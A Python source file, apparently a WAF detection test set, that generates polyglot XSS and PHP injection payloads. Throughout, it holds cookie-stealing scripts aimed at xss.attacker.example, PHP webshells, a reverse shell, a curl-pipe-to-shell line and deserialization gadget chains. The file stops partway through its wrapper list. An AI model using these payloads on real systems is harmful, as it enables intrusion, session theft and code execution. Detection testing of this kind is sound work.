"""Blind set "hundredfortyfourth": polyglot, multi-context and second-order payloads for the cross-site scripting
and PHP injection titles, with benign requests that carry the same words innocently.

The angle: one value that breaks out of several contexts at once, or that works whichever of several back ends
receives it. For XSS: strings that close a quoted attribute (single or double), a JS string, a template literal,
a raw-text element (title, textarea, style, script) and an HTML comment in one go; template expressions that are
also valid JavaScript; URLs that pass a "starts with http" or "contains our domain" check and still run as
javascript:; markup that survives a sanitizer and mutates (mXSS); values stored in a profile field, a User-Agent
or a Referer that fire later, when the admin panel, the log viewer, a report or an export renders them. For PHP:
code that runs whether the value lands in a single- or double-quoted string under eval, in a config file written
by an installer, in a log later included (log poisoning), in a session file, or in an upload that is at once an
image and a script (GIF/PHP, phar/JPEG); wrapper paths that traverse on Unix and Windows alike; serialized
objects stored in a profile, cookie or database row and unserialized later (second-order). Each payload's primary
target is its family (the `sub`); the comment above each list names the real target (browser, interpreter,
framework, server).

Families and sub-families (one per detection title, as remembered):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction),
    javascript-uri, html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-template
  php: php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/
    create_function/preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://,
    zip://, glob://), php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file,
    allow_url_include), superglobals, php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users under profile fields such as name, bio, website and address, a cookie,
User-Agent, Referer, X-Api-Version, a parameter name, an XML body, a multipart field, the URL path), once the way a
WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get,
/post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1),
as a query string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom
header or a cookie. Whole documents go as that body (SVG and XML documents, the Drupal REST JSON); php-cgi
argument injections and register_globals-style names go verbatim in the query string; the PHP-FPM PATH_INFO
injection goes in the URL path; upload names go as multipart filenames (the real upload carries a GIF/PHP
polyglot body, the regression-suite one a bare GIF header, so that the name alone is tested there).

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
The serialized PHP objects are built here with a small serializer (so every length prefix is right); Base64
pieces are encoded here. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import json
import urllib.parse
import zlib
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, Record, request
from .family_gen import _get
from .records import print_records

NAME = "hundredfortyfourth"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _deflate_b64(text: str) -> str:
    """Raw DEFLATE (what gzinflate() reads), in Base64."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(comp.compress(text.encode()) + comp.flush()).decode()


# ----------------------------------------------------------------------------------------------------------------
# A small PHP serializer (serialize()'s grammar), so that each length prefix is right
def _s(text: str) -> str:
    return f's:{len(text.encode())}:"{text}";'


def _arr(items: list[tuple[str, str]]) -> str:
    """An array from already serialized (key, value) pairs."""
    return f"a:{len(items)}:{{" + "".join(k + v for k, v in items) + "}"


def _list(values: list[str]) -> str:
    return _arr([(f"i:{i};", v) for i, v in enumerate(values)])


def _obj(cls: str, props: list[tuple[str, str]], count: int | None = None) -> str:
    """An object from (property name, serialized value); `count` overrides the property count (CVE-2016-7124)."""
    body = "".join(_s(k) + v for k, v in props)
    return f'O:{len(cls)}:"{cls}":{len(props) if count is None else count}:{{{body}}}'


def _prot(name: str) -> str:
    return f"\0*\0{name}"


def _priv(cls: str, name: str) -> str:
    return f"\0{cls}\0{name}"


MONOLOG_RCE = _obj("Monolog\\Handler\\SyslogUdpHandler", [(_prot("socket"), _obj("Monolog\\Handler\\BufferHandler", [
    (_prot("handler"), "r:2;"), (_prot("bufferSize"), "i:-1;"),
    (_prot("buffer"), _list([_arr([("i:0;", _s("id")), (_s("level"), "N;")])])),
    (_prot("level"), "N;"), (_prot("initialized"), "b:1;"), (_prot("bufferLimit"), "i:-1;"),
    (_prot("processors"), _list([_s("current"), _s("system")]))]))])
JAR = "GuzzleHttp\\Cookie\\CookieJar"
FJAR = "GuzzleHttp\\Cookie\\FileCookieJar"
GUZZLE_FW = _obj(FJAR, [
    (_priv(JAR, "cookies"), _list([_obj("GuzzleHttp\\Cookie\\SetCookie", [
        (_priv("GuzzleHttp\\Cookie\\SetCookie", "data"), _arr([
            (_s("Expires"), "i:1;"), (_s("Discard"), "b:0;"),
            (_s("Value"), _s("<?php system($_GET['c']); ?>"))]))])])),
    (_priv(JAR, "strictMode"), "N;"), (_priv(FJAR, "filename"), _s("/var/www/html/cache.php")),
    (_priv(FJAR, "storeSessionCookies"), "b:1;")])
LARAVEL_RCE = _obj("Illuminate\\Broadcasting\\PendingBroadcast", [
    (_prot("events"), _obj("Illuminate\\Events\\Dispatcher", [
        (_prot("listeners"), _arr([(_s("id"), _list([_s("system")]))]))])),
    (_prot("event"), _s("id"))])
FNSTREAM = "GuzzleHttp\\Psr7\\FnStream"
DRUPAL_FN = _obj(FNSTREAM, [(_priv(FNSTREAM, "methods"), _arr([(_s("close"), _s("phpinfo"))])),
                            ("_fn_close", _s("phpinfo"))])
DRUPAL_REST = json.dumps({"link": [{"value": "link", "options": DRUPAL_FN}],
                          "_links": {"type": {"href": "http://localhost/rest/type/shortcut/default"}}})
THINK_FD = _obj("think\\process\\pipes\\Windows", [
    (_priv("think\\process\\pipes\\Windows", "files"), _list([_s("/var/www/html/.htaccess")]))])
YII_RCE = _obj("yii\\db\\BatchQueryResult", [(_priv("yii\\db\\BatchQueryResult", "_dataReader"), _obj(
    "Faker\\Generator", [(_prot("formatters"), _arr([(_s("close"), _list([_obj("yii\\rest\\CreateAction", [
        ("checkAccess", _s("system")), ("id", _s("id"))]), _s("run")]))]))]))])
SYMFONY_FD = _obj("Symfony\\Component\\Process\\Pipes\\WindowsPipes", [
    (_priv("Symfony\\Component\\Process\\Pipes\\WindowsPipes", "files"), _list([_s("/var/www/html/index.php")]))])
SOAP_SSRF = _obj("SoapClient", [("uri", _s("urn:x")), ("location", _s("http://169.254.169.254/latest/meta-data/")),
                                ("_user_agent", _s("x\r\nX-Forwarded-For: 127.0.0.1\r\nContent-Length: 0\r\n\r\n"))])
STD = _obj("stdClass", [])
ARRAY_OBJECT_INNER = "x:i:0;" + _arr([]) + ";m:" + _arr([(_s("p"), _obj("Monolog\\Handler\\BufferHandler", []))])
ARRAY_OBJECT = f'C:11:"ArrayObject":{len(ARRAY_OBJECT_INNER)}:{{{ARRAY_OBJECT_INNER}}}'
SPL_STORAGE_INNER = "x:i:1;" + STD + ",N;;m:" + _arr([])
SPL_STORAGE = f'C:16:"SplObjectStorage":{len(SPL_STORAGE_INNER)}:{{{SPL_STORAGE_INNER}}}'
SWIFT_FD = _obj("Swift_ByteStream_TemporaryFileByteStream", [
    (_priv("Swift_ByteStream_FileByteStream", "_path"), _s("/var/www/html/.htaccess"))])


# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place.
Entry = str | tuple[str, str, str]
EXFIL = "fetch('//xss.attacker.example/c?'+document.cookie)"

# --- xss ---------------------------------------------------------------------------------------------------------
# browser (Chrome 126, Firefox 128, Safari 17): polyglots that leave an HTML text node, a single- or double-quoted
# attribute, a JS string and a raw-text element at once; reflected, or stored and rendered by the admin panel
XSS_LIBINJ: list[Entry] = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/"
    "--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"--></style></script><svg onload=alert(document.domain)>",
    "\"'><img src=x onerror=alert(1)>",
    "'-alert(1)-'\"><svg/onload=alert(2)>",
    "</title></textarea></noscript></iframe></xmp><img src=x onerror=alert(1)>",
    "\\\"-alert(1)}//\"></script><script>alert(2)</script>",
    "-->'\"/></sCript><details open ontoggle=confirm(1)>",
    "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//\";"
    "alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'>"
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "1' or '1'='1\"><svg onload=alert(1)>-- -",
    "{{7*7}}${7*7}<%= 7*7 %>\"><img src=x onerror=alert(7)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "</script><svg><script>alert(1)</script>",
    "'\"><body onload=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "'}};alert(1);{{'\"><svg onload=alert(1)>",
    "*/alert(1)/*'\"--></script><svg onload=alert(1)>",
    "</noembed></noframes></template><svg onload=alert(1)>",
    "\"><!--'--><svg onload=alert(1)>",
    "x'\"()&%<acx><ScRiPt >alert(9)</ScRiPt>",
    "\" onmouseover=alert(1) x=\"'><svg onload=alert(2)>",
]
# browser: script elements after a breakout (HTML text, attribute, textarea, pre of a log viewer, table cell)
XSS_SCRIPT: list[Entry] = [
    "</script><script>alert(document.cookie)</script>",
    "\"><script src=//xss.attacker.example/x.js></script>",
    "'--></style><script>alert(1)</script>",
    "<script>/*'\"*/alert(1)//</script>",
    "</textarea><script>" + EXFIL + "</script>",
    "<script>new Image().src='//xss.attacker.example/l?c='+encodeURIComponent(document.cookie)</script>",
    "<script type=module>import('//xss.attacker.example/m.js')</script>",
    "<script/src=data:,alert(1)></script>",
    "<script>eval(atob('" + _b64("alert(document.domain)") + "'))</script>",
    "\"><script>alert(1)</script><x y=\"",
    "</pre><script>alert(1)</script><pre>",
    "</td></tr></table><script>alert(1)</script>",
    "'\";</script><script>alert(1)</script>",
    "<script>setTimeout('ale'+'rt(1)')</script>",
    "<script>onerror=alert;throw 1</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "\"+alert(1)+\"</script><script>alert(2)</script>",
    "<SCRIPT SRC=//xss.attacker.example/.j></SCRIPT>",
    "<script\n>alert(1)</script\n>",
]
# browser: event handler attributes, as a new element or injected into the element the value sits in
XSS_EVENT: list[Entry] = [
    "\" onfocus=alert(1) autofocus x=\"",
    "' onmouseover='alert(1)' x='",
    "\"><img src=1 onerror=confirm(document.domain)>",
    "<body onpageshow=alert(1)>",
    "'\"><input onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "\"><select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
    "</textarea><textarea autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus!</x>",
    "'><iframe onload=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "x onerror=alert(1) ",
    "<object data=x onerror=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>click</a>",
    "\"><img src=x onerror=import('//xss.attacker.example/p.js')>",
    "--><img src=x onerror=" + EXFIL + ">",
    "\\\"><svg onload=alert(1)//",
]
# browser: the URL-bearing attributes (src, href, formaction, action, data, srcdoc, style) injected into a tag
XSS_ATTR: list[Entry] = [
    "\"><iframe src=\"javascript:alert(1)\">",
    "\"><form><button formaction=javascript:alert(1)>go</button></form>",
    "\" formaction=\"javascript:alert(1)\" type=\"submit",
    "\" href=\"javascript:alert(1)\" x=\"",
    "' src='x' onerror='alert(1)",
    "\" style=\"background:url(javascript:alert(1))",
    "\"><embed src=\"data:text/html;base64," + _b64("<script>alert(document.domain)</script>") + "\">",
    "\"><object data=\"javascript:alert(1)\">",
    "\"><iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
    "\"><table background=\"javascript:alert(1)\">",
    "\"><form action=\"javascript:alert(1)\"><input type=submit>",
    "\"><input type=\"submit\" formaction=\"javascript:alert(1)\" value=\"Save\">",
    "\"><iframe src=\"data:text/html,<script>alert(origin)</script>\">",
    "\"><script src=\"data:text/javascript,alert(1)\"></script>",
    "\"><button form=f formaction=//xss.attacker.example/steal formmethod=post>Continue</button>",
    "\"><img src=x lowsrc=\"javascript:alert(1)\">",
    "x\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)",
    "\"><video poster=javascript:alert(1)//></video>",
    "' formaction='//xss.attacker.example/' formtarget='_top",
    "\"><isindex type=image src=1 onerror=alert(1)>",
]
# browser: javascript: URLs stored in a profile's website or avatar link and rendered as <a href> later; some pass
# a "starts with https" or "contains example.com" check
XSS_JSURI: list[Entry] = [
    "javascript://example.com/%0aalert(document.domain)",
    "javascript://%0Aalert(1)",
    "javascript:/*https://example.com*/alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript:alert(1)//'\"><svg onload=alert(2)>",
    "javascript:'<svg onload=alert(1)>'",
    "javascript:" + EXFIL,
    "javascript:eval(location.hash.slice(1))#alert(1)",
    "javascript:import('//xss.attacker.example/m.js')",
    "javascript:%61lert(1)",
    "javascript:alert%28document.domain%29",
    "vbscript:msgbox(1)",
    "javascript:void(location='//xss.attacker.example/?'+document.cookie)",
    "javascript:window.onerror=alert;throw 1",
    "javascript:\"/*'/*`/*--></title></style></textarea></script><svg/onload=alert(1)>*/\"",
    "javascript:top['al'+'ert'](1)",
    "javascript:alert(1)?https://example.com/avatar.png",
]
# browser: markup that is not script but hijacks the page (base, meta refresh, iframe overlay, forms, dangling
# markup, DOM clobbering)
XSS_HTML: list[Entry] = [
    "\"><base href=\"https://xss.attacker.example/\">",
    "</textarea><meta http-equiv=\"refresh\" content=\"0;url=https://xss.attacker.example/phish\">",
    "\"><iframe src=\"https://xss.attacker.example/login\" style=\"position:fixed;top:0;left:0;width:100%;"
    "height:100%;border:0\"></iframe>",
    "'><object data=\"https://xss.attacker.example/x.swf\" type=\"application/x-shockwave-flash\"></object>",
    "\"><embed src=\"https://xss.attacker.example/x.svg\" type=\"image/svg+xml\">",
    "</title><link rel=\"stylesheet\" href=\"https://xss.attacker.example/leak.css\">",
    "\"><form action=\"https://xss.attacker.example/collect\" method=\"post\">Session expired<input "
    "name=\"password\" type=\"password\"><input type=\"submit\" value=\"Sign in\"></form>",
    "<iframe srcdoc=\"<script>top.location='//xss.attacker.example'</script>\"></iframe>",
    "<meta name=\"referrer\" content=\"unsafe-url\"><img src=\"//xss.attacker.example/r\">",
    "\"><object data=\"data:text/html;base64," + _b64("<script>alert(1)</script>") + "\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:/a/-alert(1)///////\"><a href=../x>test</a>",
    "<link rel=\"import\" href=\"data:text/html,<script>alert(1)</script>\">",
    "<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\"><param name=\"movie\" "
    "value=\"//xss.attacker.example/x.swf\"><param name=\"AllowScriptAccess\" value=\"always\"></object>",
    "<embed src=//xss.attacker.example/x.swf allowscriptaccess=always>",
    "<isindex action=\"javascript:alert(1)\" type=submit>",
    "<a id=defaultConfig></a><a id=defaultConfig name=scriptSrc href=//xss.attacker.example/x.js></a>",
    "\"><img src='//xss.attacker.example/log?html=",
    "\"><form action=//xss.attacker.example/d method=post><textarea name=rest>",
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64," + _b64("<script>alert(1)</script>")
    + "\">",
]
# browser: SVG and MathML (foreign content): their own script, animation and link elements, and the namespace
# confusions that let sanitized markup mutate (DOMPurify-style mXSS)
XSS_SVG: list[Entry] = [
    "\"><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>click</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<math><maction actiontype=\"statusline#x\" xlink:href=\"javascript:alert(1)\">click</maction></math>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    ("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>", "xml-doc", "rs-xml-doc"),
    ("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
     "xml-doc", "rs-xml-doc"),
    "<svg><discard onbegin=alert(1)>",
    "<svg><image href=1 onerror=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><rect width=100 height=100 /></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>click</text>"
    "</a></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>",
]
# browser: CSS: expression()/behavior (IE 5-7), -moz-binding (Firefox 1-3), url(javascript:), @import of a remote
# sheet, and CSS-only exfiltration of the CSRF token through attribute selectors (every browser)
XSS_CSS: list[Entry] = [
    "<div style=\"width:expression(alert(1))\">",
    "\" style=\"xss:expression(alert(1))",
    "</style><style>@import'//xss.attacker.example/x.css';</style>",
    "x{}*{-moz-binding:url(//xss.attacker.example/xss.xml#x)}",
    "<style>*{behavior:url(//xss.attacker.example/x.htc)}</style>",
    "input[name=csrf_token][value^=a]{background:url(//xss.attacker.example/leak?a)}",
    "}</style><img src=x onerror=alert(1)>",
    "<style>@import \"javascript:alert(1)\";</style>",
    "<div style=\"width:expres/**/sion(alert(1))\">",
    "<div style=\"width:exp\\72 ession(alert(1))\">",
    "<div style=\"xss:\\65 xpression(alert(1))\">",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x</li></ul>",
    "<link rel=stylesheet href=\"data:,*%7bx:expression(alert(1))%7d\">",
    "<style>@font-face{font-family:x;src:url(//xss.attacker.example/f?c=a);unicode-range:U+0061}</style>",
    "color:red;background-image:url(javascript:alert(1))",
    "a{}@import url(//xss.attacker.example/steal.css);",
    "<style>body{-o-link:'javascript:alert(1)';-o-link-source:current}</style>",
    "<xss style=\"xss:expression(alert(1))\">",
    "<style>:root{--x:\"</style><script>alert(1)</script>\"}</style>",
    "';}</style><div style=\"background-image:url(javascript:alert(1))\">",
]
# browser: JavaScript contexts (template literals, strings, JSON in a script block) and the DOM sinks a
# single-page app feeds from the URL or a stored field (innerHTML, document.write, eval, iframe.src, jQuery)
XSS_DOM: list[Entry] = [
    "${alert(1)}",
    "`-alert(1)-`",
    "'-alert(1)-'",
    "\\';alert(1);//",
    "#<img src=x onerror=alert(1)>",
    "${fetch('//xss.attacker.example/?c='+document.cookie)}",
    "\";alert(1);//",
    "${''.constructor.constructor('alert(1)')()}",
    ('{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}', "json-body", "rs-json-body"),
    ("__proto__[srcdoc][]=<script>alert(1)</script>", "param-name", "rs-param-name"),
    "<img/src/onerror=alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "https://xss.attacker.example/jsonp?callback=alert(1)//",
    "'+alert(1)+'",
    "1-alert(1)-1",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "`;alert(1);`",
    "';document.location='//xss.attacker.example/?'+document.cookie;//",
    "top[/al/.source+/ert/.source](1)",
    "</script><img src=x onerror=alert(1)>${alert(2)}",
]
# Internet Explorer 6-11 and its XSS filter (and old Netscape/Opera): vectors only those engines ran
XSS_IE: list[Entry] = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=`x`onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml><span datasrc=#x datafld=c "
    "dataformatas=html></span>",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<img src=\"javascript:alert(1)\">",
    "<bgsound src=\"javascript:alert(1)\">",
    "<br size=\"&{alert(1)}\">",
    "<input type=\"image\" dynsrc=\"javascript:alert(1)\">",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<meta http-equiv=\"Link\" content=\"<javascript:alert(1)>; rel=stylesheet\">",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "<img/src=x\x0conerror=alert(1)>",
    "<div id=\"x\" style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)\">",
    "<script event=onload for=window>alert(1)</script>",
    "<?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" "
    "to=\"XSS<script defer>alert(1)</script>\">",
    "<iframe src=\"vbscript:msgbox(1)\"></iframe>",
    "<object type=\"text/x-scriptlet\" data=\"//xss.attacker.example/x.sct\"></object>",
]
# browser: the same vectors behind entities, percent, JS and Unicode escapes, decoded once more by the app (double
# decoding of a stored value, NFKC normalization, a JSON string put into innerHTML)
XSS_ENCODED: list[Entry] = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "<svg><script>&#97;lert(1)</script></svg>",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "<img src=x onerror=\\u0061lert(1)>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&#60;svg onload=alert(1)&#62;",
    "<iframe src=\"data:text/html;base64," + _b64("<script>alert(document.domain)</script>") + "\"></iframe>",
    "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
    "<a href=\"java&#0000115cript:alert(1)\">x</a>",
    "<svg onload=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>",
    "<img src=x onerror=location=atob('" + _b64("javascript:alert(1)") + "')>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
]
# browser: client-side template engines compiling stored or reflected text (AngularJS 1.x, Vue 2/3 in-DOM
# templates, Alpine.js, Knockout); each expression is also plain JavaScript
XSS_CSTI: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "<input autofocus ng-focus=\"$event.composedPath()|orderBy:'[].constructor.from([1],alert)'\">",
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "<div v-html=\"''.constructor.constructor('alert(1)')()\">a</div>",
    "<x v-if=_c.constructor('alert(1)')()>",
    "{{constructor.constructor(\"" + EXFIL + "\")()}}",
    "<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
    "{{$eval.constructor('alert(1)')()}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;[\"a\",\"alert(1)\"]"
    ".sort(toString.constructor)}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "<x @click=$event.view.alert(1)>click</x>",
    "{{$emit.constructor`alert(1)`()}}",
    "<div ng-app ng-init=\"constructor.constructor('alert(1)')()\"></div>",
    "\"><div ng-app>{{constructor.constructor('alert(1)')()}}",
    "<div x-data x-init=\"alert(document.domain)\"></div>",
    "<div data-bind=\"html:'<img src=x onerror=alert(1)>'\"></div>",
]

# --- php ---------------------------------------------------------------------------------------------------------
# PHP 5.6-8.3: code that runs once the value is written into a file PHP later includes (an access or error log
# included through an LFI, a config.php an installer writes, a template cache, an upload that is also an image)
PHP_OPEN_TAG: list[Entry] = [
    "<?php system($_GET['c']); ?>",
    "<?=`$_GET[0]`?>",
    "<? passthru($_REQUEST['x']); ?>",
    "<script language=\"php\">system('id');</script>",
    "<% system('id'); %>",
    "'; ?><?php system('id'); ?><?php '",
    "*/?><?php phpinfo();/*",
    "\"];?><?php eval($_POST[1]);//",
    "GIF89a<?php system($_GET['c']);?>",
    "%PDF-1.4\n<?php passthru($_GET['c']); __halt_compiler();",
    "<?php/**/eval(base64_decode('" + _b64("system('id');") + "'));",
    "<?PhP sYsTeM('id');",
    "<?php\nsystem('id');",
    "<?=include$_GET[f]?>",
    "\"><?php echo shell_exec($_GET['e']); ?><\"",
    "<!--<?php system('id');?>-->",
    "<?php if(isset($_REQUEST['c'])){echo '<pre>'.shell_exec($_REQUEST['c']).'</pre>';} ?>",
    "<?php $s=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
    "<?php file_put_contents('s.php','<?php eval($_POST[0]);');?>",
    "<?=(~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\")(\"id\")?>",
    "<?php\t@eval($_POST['pass']);?>",
    "1;<?php echo md5('pwn');?>",
    "<?php /* <svg onload=alert(1)> */ system('id'); ?>",
    "<?=`{$_COOKIE['c']}`?>",
    "<?xml version=\"1.0\"?><?php system('id');?>",
    "');?><?php system('id');//",
]
# PHP 5-8 under eval() / assert() (string, PHP < 8) / create_function (PHP < 8) / preg_replace /e (PHP < 7): code
# that closes a single- or double-quoted string, an array or a call, or runs inside "{${...}}" interpolation
PHP_FUNC: list[Entry] = [
    "';system('id');//",
    "\".system('id').\"",
    "{${system('id')}}",
    "${@passthru('id')}",
    "1;exec('id',$o);print_r($o);",
    "'.passthru('id').'\".passthru('id').\"",
    "echo fread(popen('id','r'),4096);",
    "proc_open('id',[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);",
    "assert(\"system('id')\")",
    "eval(gzinflate(base64_decode('" + _deflate_b64("system('id');") + "')));",
    "}system('id');/*",
    ("pattern=/.*/e&replacement=system('id')&subject=x", "query-raw", "rs-query-raw"),
    "1'));system('id');#",
    "\"];system('id');//",
    "0);pcntl_exec('/bin/sh',['-c','id']);//",
    "mb_ereg_replace('.*','system(\"id\")','x','e');",
    "die(`id`);",
    "exit(shell_exec('cat /etc/passwd'));",
    "' and system('id') and '",
    "\\';exec(\\'id\\');//",
    "1);}system('id');function x(){//",
    "print(system('id'));",
    "preg_replace('/.*/e','passthru(\"id\")','x');",
    "$f=create_function('',$_POST['c']);$f();",
    "${${passthru('id')}}",
    "\";shell_exec('curl 203.0.113.9/s|sh');$a=\"",
]
# PHP 7-8: functions reached through a variable, a string expression, a callback API or reflection
PHP_VARFUNC: list[Entry] = [
    "$f='sys'.'tem';$f('id');",
    "('sys'.'tem')('id');",
    "$_GET[0]($_GET[1]);",
    "${'_'.'GET'}[0](${'_'.'GET'}[1]);",
    "(~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\")('id');",
    "$a=strrev('metsys');$a('id');",
    "$a=str_rot13('flfgrz');$a('id');",
    "$b=base64_decode('" + _b64("system") + "');$b('id');",
    "call_user_func('pass'.'thru','id');",
    "call_user_func_array('system',['id']);",
    "array_map('sys'.'tem',['id']);",
    "array_filter(['id'],'system');",
    "register_shutdown_function('system','id');",
    "(new ReflectionFunction('system'))->invoke('id');",
    "$x='assert';$x('system(\"id\")');",
    "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id');",
    "\"\\163\\171\\163\\164\\145\\155\"('id');",
    "[new ReflectionFunction('passthru'),'invoke']('id');",
    "(\"\\x13\\x19\\x13\\x14\\x05\\x0d\"^\"``````\")(\"id\");",
    "$f=$_COOKIE['f'];$f($_COOKIE['a']);",
    "$GLOBALS['_GET'][0]($GLOBALS['_GET'][1]);",
    "implode('',['sy','st','em'])('id');",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');",
    "Closure::fromCallable('system')('id');",
    "forward_static_call('passthru','id');",
    "ob_start('system');echo 'id';ob_end_flush();",
]
# PHP 5-8 stream wrappers through include/require/file_get_contents/fopen/unserialize of a path; several paths
# traverse on Unix and Windows alike, several reach an uploaded polyglot (phar/zip inside an image)
PHP_WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=/etc/passwd",
    "php://filter/convert.base64-encode/resource=../../../../../../etc/passwd",
    "php://filter/convert.base64-encode/resource=C:/Windows/win.ini",
    "php://filter/zlib.deflate/convert.base64-encode/resource=config.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.iconv.CP1162.UTF32|convert.iconv.L4.T.61|convert.base64-decode/resource=php://temp",
    "php://input",
    "data://text/plain;base64," + _b64("<?php system($_GET['c']); ?>"),
